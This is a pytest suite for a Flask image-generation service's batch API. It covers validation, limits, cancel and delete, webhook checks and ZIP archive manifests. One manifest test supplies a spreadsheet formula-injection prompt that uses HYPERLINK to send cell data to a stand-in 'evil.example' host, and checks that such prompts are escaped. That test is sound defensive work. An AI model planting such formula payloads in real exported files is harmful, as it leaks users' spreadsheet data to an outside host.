"""/api/batches over the Flask test client: validation, matrix expansion,
idempotency, limits, paging, ownership, completion (and its webhook),
cancel, delete and the archive. The stages run in-process
(tests/support/pipeline.py); tests/integration/test_batches_services.py
runs batches on the real services."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import timedelta

import pytest
from sqlalchemy import func, select, update
from sqlalchemy.exc import OperationalError

from app import create_app
from app.api import batch_responses as b
from app.api.batch_schemas import MAX_BATCH
from app.domain import batch_flows
from app.domain import batches as batches_domain
from app.domain.models import Batch, Generation, GenerationAsset, GenerationStage, utcnow
from app.pipeline.context import StageFailed
from app.pipeline.runner import STAGE_FUNCS
from app.platform.config import Settings
from app.webhooks import WebhookDelivery
from tests.conftest import make_user
from tests.support.pipeline import run_all, run_through, services
from tests.test_api_generations import assert_error, conforms

BATCHES = "/api/batches"


def items(n: int, **extra) -> list[dict]:
    return [{"prompt": f"linen shirt no. {i}", **extra} for i in range(n)]


def submit(client, user, body: dict, status: int = 202, **headers) -> dict:
    resp = client.post(BATCHES, json=body, headers={**user.headers, **headers})
    assert resp.status_code == status, resp.get_json()
    return resp.get_json()


def batch(client, user, batch_id: str) -> dict:
    resp = client.get(f"{BATCHES}/{batch_id}", headers=user.headers)
    assert resp.status_code == 200, resp.get_json()
    conforms(resp.get_json(), b.BatchOut)
    return resp.get_json()


def members(client, user, batch_id: str) -> list[dict]:
    resp = client.get(f"/api/generate?batchId={batch_id}&limit=100", headers=user.headers)
    assert resp.status_code == 200, resp.get_json()
    return resp.get_json()["items"]


def run_batch(app, client, user, batch_id: str, only: int | None = None) -> None:
    """Run the stages of (the first ``only``) generations, as the workers would."""
    gens = sorted(members(client, user, batch_id), key=lambda g: g["createdAt"])
    with app.app_context():  # what a worker's task has: webhooks, the batch's completion
        for gen in gens[:only]:
            run_all(app, gen["id"])


# ------------------------------------------------------------------ submit


def test_items_make_a_batch_of_ordinary_generations(client, user):
    body = {"items": items(2) + [{"vltSpec": {"records": [{"garmentType": "dress"}]}}]}
    resp = client.post(BATCHES, json=body, headers=user.headers)
    assert resp.status_code == 202, resp.get_json()
    accepted = resp.get_json()
    conforms(accepted, b.BatchAcceptedOut)
    assert accepted["status"] == "pending" and accepted["total"] == 3
    assert resp.headers["Location"] == f"{BATCHES}/{accepted['id']}" == accepted["links"]["self"]
    shown = batch(client, user, accepted["id"])
    assert shown["status"] == "pending" and shown["total"] == 3
    assert shown["counts"] == {
        "pending": 3,
        "processing": 0,
        "completed": 0,
        "failed": 0,
        "canceled": 0,
        "deleted": 0,
    }
    gens = members(client, user, accepted["id"])
    assert len(gens) == 3 and {g["batchId"] for g in gens} == {accepted["id"]}
    assert sorted(g["mode"] for g in gens) == ["image", "prompt", "prompt"]
    single = client.post("/api/generate/from-prompt", json={"prompt": "x"}, headers=user.headers)
    one = client.get(f"/api/generate/{single.get_json()['id']}", headers=user.headers)
    assert one.get_json()["batchId"] is None


def test_a_matrix_is_expanded_server_side(client, user):
    matrix = {
        "prompts": ["wool coat", "silk dress"],
        "sizes": ["square", "3:4"],
        "colorways": ["navy", "rust"],
        "settings": {"quality": "hd"},
    }
    accepted = submit(client, user, {"matrix": matrix})
    assert accepted["total"] == 8
    gens = members(client, user, accepted["id"])
    combos = {(g["prompt"]["original"], g["settings"]["size"]) for g in gens}
    assert ("wool coat, in a navy colorway", "3:4") in combos and len(combos) == 8
    assert {g["settings"]["quality"] for g in gens} == {"hd"}


def test_a_matrix_over_personas_and_providers(client, user):
    persona = client.post(
        "/api/personas", json={"name": "Noir", "keywords": ["black"]}, headers=user.headers
    ).get_json()["id"]
    matrix = {"prompts": ["blazer"], "personas": [persona], "providers": ["local", "auto"]}
    gens = members(client, user, submit(client, user, {"matrix": matrix})["id"])
    assert sorted(g["settings"]["provider"] for g in gens) == ["auto", "local"]
    assert {g["personaId"] for g in gens} == {persona}
    matrix["personas"] = [persona, "per_not_mine"]  # named where the request names it
    error = assert_error(client.post(BATCHES, json={"matrix": matrix}, headers=user.headers), 422)
    assert error["details"][0]["field"] == "matrix.personas.1"
    items = [{"prompt": "a"}, {"prompt": "b", "personaId": "per_not_mine"}]
    error = assert_error(client.post(BATCHES, json={"items": items}, headers=user.headers), 422)
    assert error["details"][0]["field"] == "items.1.personaId"


def test_a_matrix_takes_its_prompts_as_the_text_of_a_txt_file(client, user):
    """The page's Batch box sends what was typed; the server reads it as
    ``bff batch`` reads a .txt file (``app.domain.batch_text``). Before, the
    page sent every non-blank line: ``# autumn drop`` was a paid prompt."""
    text = "\ufeff# autumn drop\r\nwool coat  \r\n\r\n  # later\r\nsilk dress, bias cut\r\n"
    matrix = {"promptsText": text, "colorways": ["navy"]}
    accepted = submit(client, user, {"matrix": matrix})
    assert accepted["total"] == 2
    prompts = {g["prompt"]["original"] for g in members(client, user, accepted["id"])}
    assert prompts == {"wool coat, in a navy colorway", "silk dress, bias cut, in a navy colorway"}


@pytest.mark.parametrize(
    "matrix, field",
    [
        ({"prompts": ["wool coat"], "colorways": ["navy", "camel", "Navy "]}, "colorways"),
        ({"prompts": ["wool coat", "Wool  coat"]}, "prompts"),
        ({"promptsText": "wool coat", "providers": ["local", "local"]}, "providers"),
        ({"promptsText": "wool coat", "sizes": ["square", "portrait", "square"]}, "sizes"),
    ],
)
def test_an_axis_value_twice_is_refused(client, user, matrix, field):
    """Before, each combination with it was made, and paid, twice: the
    page's Colourways "navy, navy", a --matrix CSV's column of colourways."""
    error = assert_error(client.post(BATCHES, json={"matrix": matrix}, headers=user.headers), 422)
    assert [d["field"] for d in error["details"]] == [f"matrix.{field}"], error
    assert "twice" in error["details"][0]["message"]
    assert client.get(BATCHES, headers=user.headers).get_json()["items"] == []


def test_prompts_text_of_a_thousand_lines_is_read(client, user):
    text = "# SS27\n" * 998 + "wool coat\nsilk dress\n\n"
    assert submit(client, user, {"matrix": {"promptsText": text}})["total"] == 2


def test_prompts_text_lines_end_only_at_a_newline(client, user):
    """Before, a line separator (U+2028) or form feed pasted inside a prompt
    split it in two: two paid generations for what is one line in the box."""
    text = "linen shirt\u2028soft collar\nwool coat\x0cnavy\n"
    accepted = submit(client, user, {"matrix": {"promptsText": text}})
    assert accepted["total"] == 2
    prompts = {g["prompt"]["original"] for g in members(client, user, accepted["id"])}
    assert prompts == {"linen shirt\u2028soft collar", "wool coat\x0cnavy"}


TEXT = "matrix.promptsText"


@pytest.mark.parametrize(
    "matrix, field, says",
    [
        ({"promptsText": "wool coat\nsilk dress\nWool  coat\n"}, TEXT, "line 3 repeats line 1"),
        ({"promptsText": "# autumn drop\n\n"}, TEXT, "has no prompts"),
        ({"promptsText": "prompt\nwool coat\n"}, TEXT, "line 1 looks like a header row"),
        ({"promptsText": "wool coat", "prompts": ["wool coat"]}, "matrix", "either prompts or"),
        ({"colorways": ["navy"]}, "matrix", "send prompts (a list) or promptsText"),
        ({"promptsText": "# x\nwool coat\n" + "x" * 4921}, TEXT, "line 3 has 4921 characters"),
        # Before, these were said at matrix.prompts and matrix.prompts.1: fields not sent.
        ({"promptsText": "\n".join(f"coat {i}" for i in range(101))}, TEXT, "has 101 prompts"),
        ({"promptsText": "# x\nlinen\nwool\x00coat\n"}, TEXT, "line 3 holds a NUL"),
        # Before, each of 95,000 lines was read (half a second) to say "at most 100".
        ({"promptsText": "#\r\n" * 1000 + "coat\n"}, TEXT, "has 1001 lines; at most 1000"),
    ],
)
def test_prompts_text_that_would_pay_for_what_was_not_meant_is_422(
    client, user, matrix, field, says
):
    error = assert_error(client.post(BATCHES, json={"matrix": matrix}, headers=user.headers), 422)
    assert [d["field"] for d in error["details"]] == [field], error
    assert says in error["details"][0]["message"], error
    assert client.get(BATCHES, headers=user.headers).get_json()["items"] == []


@pytest.mark.parametrize(
    "body, field",
    [
        ({}, "body"),
        ({"items": items(1), "matrix": {"prompts": ["a"]}}, "body"),
        ({"items": []}, "items"),
        ({"items": items(101)}, "items"),
        ({"items": [{"prompt": "a", "colour": "red"}]}, "items.0"),
        ({"items": [{"prompt": ""}]}, "items.0"),
        ({"items": None}, "items"),
        ({"matrix": {"prompts": ["a"] * 11, "colorways": ["c"] * 10}}, "matrix"),
        ({"matrix": {"prompts": ["a"], "sizes": ["huge"]}}, "matrix.sizes.0"),
    ],
)
def test_invalid_batches_are_422(client, user, body, field):
    error = assert_error(client.post(BATCHES, json=body, headers=user.headers), 422)
    assert any(d["field"].startswith(field) for d in error["details"]), error


def test_an_item_the_single_submit_refuses_is_named(client, user):
    body = {"items": items(1) + [{"prompt": "b", "settings": {"provider": "openai-dalle3"}}]}
    error = assert_error(client.post(BATCHES, json=body, headers=user.headers), 422)
    assert error["code"] == "provider_unavailable" and "OPENAI_API_KEY" in error["message"]
    assert error["details"][0]["field"] == "items.1.settings.provider"
    with services(client.application).db.session() as session:
        assert session.scalar(select(func.count()).select_from(Batch)) == 0


def test_idempotency_key_replays_the_batch(client, user):
    first = submit(client, user, {"items": items(3)}, **{"Idempotency-Key": "b-1"})
    again = submit(client, user, {"items": items(3)}, **{"Idempotency-Key": "b-1"})
    assert again["id"] == first["id"] and again["total"] == 3
    assert len(members(client, user, first["id"])) == 3
    resp = client.post(
        BATCHES, json={"items": items(2)}, headers={**user.headers, "Idempotency-Key": "b-1"}
    )
    assert assert_error(resp, 409)["code"] == "idempotency_conflict"
    with services(client.application).db.session() as session:
        assert session.scalar(select(func.count()).select_from(Generation)) == 3


# ------------------------------------------------------------------ limits


def test_the_rate_limit_counts_each_generation(app_config):
    app = create_app({**app_config, "BFF_SUBMIT_RATE_LIMIT": "5/60"})
    client, alice = app.test_client(), make_user(app, "alice")
    error = assert_error(client.post(BATCHES, json={"items": items(6)}, headers=alice.headers), 422)
    assert "rate limit" in error["message"]
    submit(client, alice, {"items": items(4)})
    resp = client.post(BATCHES, json={"items": items(2)}, headers=alice.headers)
    assert_error(resp, 429)
    assert int(resp.headers["Retry-After"]) >= 1
    submit(client, alice, {"items": items(1)})


def test_the_largest_batch_fits_the_default_rate_limit(client, user):
    assert Settings.from_env({}).submit_rate_limit == (MAX_BATCH, 60.0)
    submit(client, user, {"items": items(MAX_BATCH)})
    resp = client.post(BATCHES, json={"items": items(1)}, headers=user.headers)
    assert_error(resp, 429)  # and it is all a minute allows


def test_the_whole_batch_is_checked_against_the_daily_cap(app_config, runner):
    app = create_app({**app_config, "REPLICATE_API_TOKEN": "r8_test"})  # Imagen: $0.06 an image
    client, alice = app.test_client(), make_user(app, "alice")
    runner.app = app
    assert runner.invoke(args=["users", "cap", "alice", "0.20"]).exit_code == 0
    body = {"items": items(4, settings={"provider": "google-imagen"})}
    error = assert_error(client.post(BATCHES, json=body, headers=alice.headers), 403)
    assert error["code"] == "budget_exceeded"
    assert error["details"] == {"spent": 0, "cap": 0.2, "estimate": 0.24}
    with services(app).db.session() as session:
        assert session.scalar(select(func.count()).select_from(Generation)) == 0
    body["items"] = body["items"][:3]
    assert submit(client, alice, body)["estimatedCost"] == 0.18


# ------------------------------------------------------------------ reading


def test_batches_are_paged_newest_first(client, user, other_user):
    ids = [submit(client, user, {"items": items(1)})["id"] for _ in range(3)]
    submit(client, other_user, {"items": items(1)})
    seen, cursor = [], None
    while True:
        query = f"?limit=2&cursor={cursor}" if cursor else "?limit=2"
        page = client.get(BATCHES + query, headers=user.headers).get_json()
        conforms(page, b.BatchPage)
        seen += [item["id"] for item in page["items"]]
        if not (cursor := page["nextCursor"]):
            break
    assert seen == ids[::-1]
    assert_error(client.get(BATCHES + "?cursor=nope", headers=user.headers), 400)
    assert_error(client.get(BATCHES + "?limit=0", headers=user.headers), 422)


def test_another_users_batch_is_404(client, user, other_user):
    batch_id = submit(client, user, {"items": items(1)})["id"]
    for method, path in (
        ("get", f"{BATCHES}/{batch_id}"),
        ("get", f"{BATCHES}/{batch_id}/archive"),
        ("post", f"{BATCHES}/{batch_id}/cancel"),
        ("delete", f"{BATCHES}/{batch_id}"),
        ("get", f"/api/generate?batchId={batch_id}"),
    ):
        resp = getattr(client, method)(path, headers=other_user.headers)
        assert assert_error(resp, 404)["message"] == "batch not found", path
    assert batch(client, user, batch_id)["status"] == "pending"


# ------------------------------------------------------------------ lifecycle


def test_a_batch_completes_once_every_generation_is_final(app_config):
    app = create_app({**app_config, "BFF_ALLOW_HTTP_WEBHOOKS": "1"})
    client, alice = app.test_client(), make_user(app, "alice")
    body = {"items": items(3), "webhookUrl": "http://127.0.0.1:9/batch-done"}
    batch_id = submit(client, alice, body)["id"]
    run_batch(app, client, alice, batch_id, only=2)
    shown = batch(client, alice, batch_id)
    assert shown["status"] == "processing" and shown["counts"]["completed"] == 2
    assert shown["finishedAt"] is None
    run_batch(app, client, alice, batch_id)
    shown = batch(client, alice, batch_id)
    assert shown["status"] == "completed" and shown["counts"]["completed"] == 3
    assert shown["finishedAt"] is not None
    with services(app).db.session() as session:
        [delivery] = session.scalars(
            select(WebhookDelivery).where(WebhookDelivery.batch_id == batch_id)
        ).all()
        assert delivery.event_type == "batch.completed" and delivery.generation_id is None
        payload = json.loads(delivery.payload)
    conforms(payload, b.BatchOut)
    assert payload["id"] == batch_id and payload["counts"]["completed"] == 3


def test_a_lost_completion_check_is_made_by_the_sweep(app, client, user):
    batch_id = submit(client, user, {"items": items(2)})["id"]
    for gen in members(client, user, batch_id):
        run_all(app, gen["id"])  # outside a task's app context: no completion check
    with services(app).db.session() as session:
        assert session.get(Batch, batch_id).finished_at is None
        session.execute(update(Batch).values(created_at=utcnow() - timedelta(minutes=5)))
    assert batch_flows.sweep(services(app)) == 1
    assert batch(client, user, batch_id)["finishedAt"] is not None
    assert batch_flows.sweep(services(app)) == 0


def test_cancel_of_a_batch_done_but_not_yet_marked_so_is_a_conflict(app, client, user):
    batch_id = submit(client, user, {"items": items(2)})["id"]
    for gen in members(client, user, batch_id):
        run_all(app, gen["id"])  # no completion check: finished_at stays unset
    resp = client.post(f"{BATCHES}/{batch_id}/cancel", headers=user.headers)
    assert assert_error(resp, 409)["message"] == "batch is already completed"
    assert batch(client, user, batch_id)["status"] == "completed"


def test_cancel_stops_every_generation_not_final(app, client, user):
    batch_id = submit(client, user, {"items": items(3)})["id"]
    run_batch(app, client, user, batch_id, only=1)
    resp = client.post(f"{BATCHES}/{batch_id}/cancel", headers=user.headers)
    assert resp.status_code == 200, resp.get_json()
    shown = resp.get_json()
    assert shown["status"] == "canceled"
    assert shown["counts"]["completed"] == 1 and shown["counts"]["canceled"] == 2
    assert shown["finishedAt"] is not None  # every generation is final
    statuses = sorted(g["status"] for g in members(client, user, batch_id))
    assert statuses == ["canceled", "canceled", "completed"]
    # A stage message still queued finds its generation canceled and stops.
    gen_id = next(g["id"] for g in members(client, user, batch_id) if g["status"] == "canceled")
    assert not run_all(app, gen_id)[0].proceed
    assert_error(client.post(f"{BATCHES}/{batch_id}/cancel", headers=user.headers), 409)


def test_delete_removes_rows_and_objects(app, client, user):
    batch_id = submit(client, user, {"items": items(2)})["id"]
    run_batch(app, client, user, batch_id, only=1)
    gen_ids = [g["id"] for g in members(client, user, batch_id)]
    root = services(app).settings.media_root / "users" / str(user.id) / "generations"
    assert any((root / gid).exists() for gid in gen_ids)
    resp = client.delete(f"{BATCHES}/{batch_id}", headers=user.headers)
    assert resp.status_code == 204 and resp.get_data() == b""
    assert "Content-Type" not in resp.headers
    assert not any((root / gid).exists() for gid in gen_ids)
    with services(app).db.session() as session:
        for model, col in ((Generation, Generation.id), (GenerationStage, None)):
            col = col if col is not None else GenerationStage.generation_id
            assert session.scalar(select(func.count()).where(col.in_(gen_ids))) == 0, model
        assert session.get(Batch, batch_id) is None
    assert_error(client.get(f"{BATCHES}/{batch_id}", headers=user.headers), 404)


def test_the_archive_holds_the_images_and_a_manifest(app, client, user):
    body = {"items": items(2, settings={"count": 2}) + items(1)}
    batch_id = submit(client, user, body)["id"]
    run_batch(app, client, user, batch_id, only=2)
    client.post(f"{BATCHES}/{batch_id}/cancel", headers=user.headers)
    resp = client.get(f"{BATCHES}/{batch_id}/archive", headers=user.headers)
    assert resp.status_code == 200 and resp.mimetype == "application/zip"
    assert resp.is_streamed
    archive = zipfile.ZipFile(io.BytesIO(resp.get_data()))
    assert archive.testzip() is None
    names = archive.namelist()
    assert names[-1] == "manifest.csv" and len(names) == 5
    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    assert len(rows) == 5  # four images, and the canceled generation without one
    with services(app).db.session() as session:
        urls = set(session.scalars(select(GenerationAsset.cdn_url)))
    for row in rows:
        if row["file"]:
            assert row["status"] == "completed" and row["url"] in urls
            assert archive.read(row["file"]).startswith(b"\x89PNG")
            assert row["provider"] == "local" and row["prompt"].startswith("linen shirt")
        else:
            assert row["status"] == "canceled" and row["url"] == ""


def test_the_manifest_says_which_file_is_a_variant_of_which(app, client, user):
    """Before, an upscaled and a cut-out file were named like the original
    they came from, and no column told them apart."""
    refine = {"provider": "local", "upscale": 2, "removeBackground": True}
    batch_id = submit(client, user, {"items": items(1, settings=refine)})["id"]
    with app.app_context():
        run_through(app, members(client, user, batch_id)[0]["id"])  # refine too
    resp = client.get(f"{BATCHES}/{batch_id}/archive", headers=user.headers)
    archive = zipfile.ZipFile(io.BytesIO(resp.get_data()))
    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    original = next(r["file"] for r in rows if r["variant"] == "original")
    shown = sorted((r["variant"], r["source_file"]) for r in rows)
    assert shown == [("cutout", original), ("original", ""), ("upscaled", original)]


def test_the_manifest_shows_a_prompt_that_looks_like_a_formula_as_text(client, user):
    """Opened in a spreadsheet, a prompt must not run (=HYPERLINK(...) sends data out)."""
    prompts = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1)", "+1 dress", "red = bold"]
    batch_id = submit(client, user, {"items": [{"prompt": p} for p in prompts]})["id"]
    resp = client.get(f"{BATCHES}/{batch_id}/archive", headers=user.headers)
    archive = zipfile.ZipFile(io.BytesIO(resp.get_data()))
    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    shown = sorted(row["prompt"] for row in rows)
    assert shown == sorted([f"'{p}" for p in prompts[:3]] + [prompts[3]])


def _archive_missing_one(app, client, user, mid_stream: bool) -> zipfile.ZipFile:
    """The archive of a two-image batch whose second image's object is deleted
    before the request, or after the archive's first bytes are sent."""
    batch_id = submit(client, user, {"items": items(2)})["id"]
    run_batch(app, client, user, batch_id)
    with services(app).db.session() as session:
        keys = session.scalars(select(GenerationAsset.r2_key).order_by(GenerationAsset.id))
        gone = services(app).settings.media_root / list(keys)[-1]
    if not mid_stream:
        gone.unlink()
    resp = client.get(f"{BATCHES}/{batch_id}/archive", headers=user.headers)
    assert resp.status_code == 200
    chunks = resp.iter_encoded()
    data = next(chunks)
    if mid_stream:
        gone.unlink()
    data += b"".join(chunks)
    return zipfile.ZipFile(io.BytesIO(data))


@pytest.mark.parametrize("mid_stream", [False, True])
def test_an_image_missing_from_storage_is_noted_and_the_archive_completes(
    app, client, user, mid_stream
):
    archive = _archive_missing_one(app, client, user, mid_stream)
    assert archive.testzip() is None
    rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    assert [(r["status"], bool(r["file"])) for r in rows] == [
        ("completed", True),
        ("completed", False),
    ]
    assert rows[0]["note"] == "" and rows[1]["note"] == "image missing from storage"
    assert rows[1]["url"].startswith("http") and archive.namelist()[1:] == ["manifest.csv"]
    assert archive.read(rows[0]["file"]).startswith(b"\x89PNG")


def test_a_retried_member_reopens_its_batch(app, client, user, monkeypatch):
    def broken(ctx):
        raise StageFailed("REPLICATE_API_TOKEN not configured")

    batch_id = submit(client, user, {"items": items(1)})["id"]
    with monkeypatch.context() as m:
        m.setitem(STAGE_FUNCS, "generate", broken)
        run_batch(app, client, user, batch_id)
    shown = batch(client, user, batch_id)
    assert shown["status"] == "completed" and shown["counts"]["failed"] == 1
    assert shown["finishedAt"] is not None
    [gen] = members(client, user, batch_id)
    assert client.post(f"/api/generate/{gen['id']}/retry", headers=user.headers).status_code == 202
    shown = batch(client, user, batch_id)
    assert shown["status"] == "pending" and shown["finishedAt"] is None  # all pending again
    run_batch(app, client, user, batch_id)
    shown = batch(client, user, batch_id)
    assert shown["status"] == "completed" and shown["counts"]["completed"] == 1
    assert shown["finishedAt"] is not None


def test_a_retry_the_database_broke_off_leaves_no_member_running_in_a_finished_batch(
    app, client, user, monkeypatch
):
    """A retried member and its batch's reopening commit together: a member
    running in a batch still marked finished could not be stopped by the
    batch's cancel or delete (they leave a finished batch's members alone),
    and its end would bring no batch completion. Here the database goes away
    as the batch is reopened: the retry is refused whole, nothing runs."""

    def broken(ctx):
        raise StageFailed("REPLICATE_API_TOKEN not configured")

    def database_gone(session, batch_id):
        raise OperationalError("UPDATE", {}, Exception("server closed the connection"))

    batch_id = submit(client, user, {"items": items(1)})["id"]
    with monkeypatch.context() as m:
        m.setitem(STAGE_FUNCS, "generate", broken)
        run_batch(app, client, user, batch_id)
    [gen] = members(client, user, batch_id)
    retry = f"/api/generate/{gen['id']}/retry"
    with monkeypatch.context() as m:
        m.setattr(batches_domain, "reopen", database_gone)
        assert client.post(retry, headers=user.headers).status_code == 503
    [gen] = members(client, user, batch_id)
    assert gen["status"] == "failed" and batch(client, user, batch_id)["finishedAt"] is not None
    assert client.post(retry, headers=user.headers).status_code == 202  # once it is back
    assert batch(client, user, batch_id)["finishedAt"] is None


def test_the_batch_webhook_url_is_checked_like_a_generations(client, user):
    body = {"items": items(1), "webhookUrl": "https://10.0.0.7/hook"}
    error = assert_error(client.post(BATCHES, json=body, headers=user.headers), 422)
    assert error["details"] == [{"field": "webhookUrl", "message": "10.0.0.7 is a private address"}]


def test_a_member_deleted_on_its_own_is_not_waited_for(app, client, user):
    batch_id = submit(client, user, {"items": items(2)})["id"]
    first, second = sorted(members(client, user, batch_id), key=lambda g: g["createdAt"])
    with app.app_context():
        run_all(app, first["id"])
    assert client.delete(f"/api/generate/{second['id']}", headers=user.headers).status_code == 204
    shown = batch(client, user, batch_id)
    assert shown["status"] == "completed" and shown["finishedAt"] is not None
    assert shown["total"] == 2 and shown["counts"]["completed"] == 1
    assert shown["counts"]["deleted"] == 1  # so the counts add up to the total


def test_a_webhook_url_its_items_share_is_resolved_once(client, user, monkeypatch):
    """A batch's request thread resolved the same host once an item (100 DNS
    look-ups, each up to the resolver's timeout)."""
    import socket

    looked_up = []

    def getaddrinfo(host, port, *args, **kw):
        looked_up.append(host)
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.215.14", port))]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    hook = {"webhookUrl": "https://hooks.example.com/item"}
    both = items(30, **hook) + items(2, webhookUrl="https://b.example/")
    submit(client, user, {"items": both, "webhookUrl": "https://b.example/"})
    assert sorted(looked_up) == ["b.example", "hooks.example.com"]  # the batch's too


def test_a_batch_of_many_slow_webhook_hosts_is_checked_within_a_budget(
    app, client, user, monkeypatch
):
    """100 hosts whose look-ups each take just under the resolver's timeout
    held the request's thread for five minutes; it stops at the budget."""
    import socket

    from app.webhooks import guard

    now, looked_up = [0.0], []

    def getaddrinfo(host, port, *args, **kw):
        looked_up.append(host)
        now[0] += 2.9  # an answer, just inside RESOLVE_TIMEOUT
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("93.184.215.14", port))]

    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    monkeypatch.setattr(guard, "_clock", lambda: now[0])
    body = {
        "items": [{"prompt": "linen", "webhookUrl": f"https://h{i}.example/"} for i in range(100)]
    }
    error = submit(client, user, body, 422)["error"]
    assert len(looked_up) == 4 and now[0] <= guard.LOOKUP_BUDGET + 3
    assert error["details"][0]["field"] == "items.4.webhookUrl"
    assert "in time" in error["details"][0]["message"]


def test_the_largest_batch_of_cjk_prompts_fits_as_bff_sends_it(client, user, monkeypatch):
    """Every prompt and negative prompt at 5,000 CJK characters: as UTF-8
    3 MB, under the 4 MB body limit; \\u-escaped (requests' ``json=``) 6 MB."""
    import requests

    from app.api.schemas import MAX_PROMPT
    from app.cli import http

    cjk = "红" * MAX_PROMPT
    body = {"items": [{"prompt": cjk, "negativePrompt": cjk} for _ in range(MAX_BATCH)]}
    sent = []

    def request(method, url, timeout, **kwargs):
        sent.append(requests.Request(method, url, **kwargs).prepare())  # as it goes out
        raise requests.Timeout()  # (what the server answers is asked below)

    monkeypatch.setenv("BFF_API_KEY", "k")
    monkeypatch.setattr(http.requests, "request", request)
    with pytest.raises(http.click.ClickException):
        http._api("POST", BATCHES, json=body)
    (out,) = sent
    headers = {**user.headers, "Content-Type": out.headers["Content-Type"]}
    resp = client.post(BATCHES, data=out.body, headers=headers)
    assert resp.status_code == 202, resp.get_json()
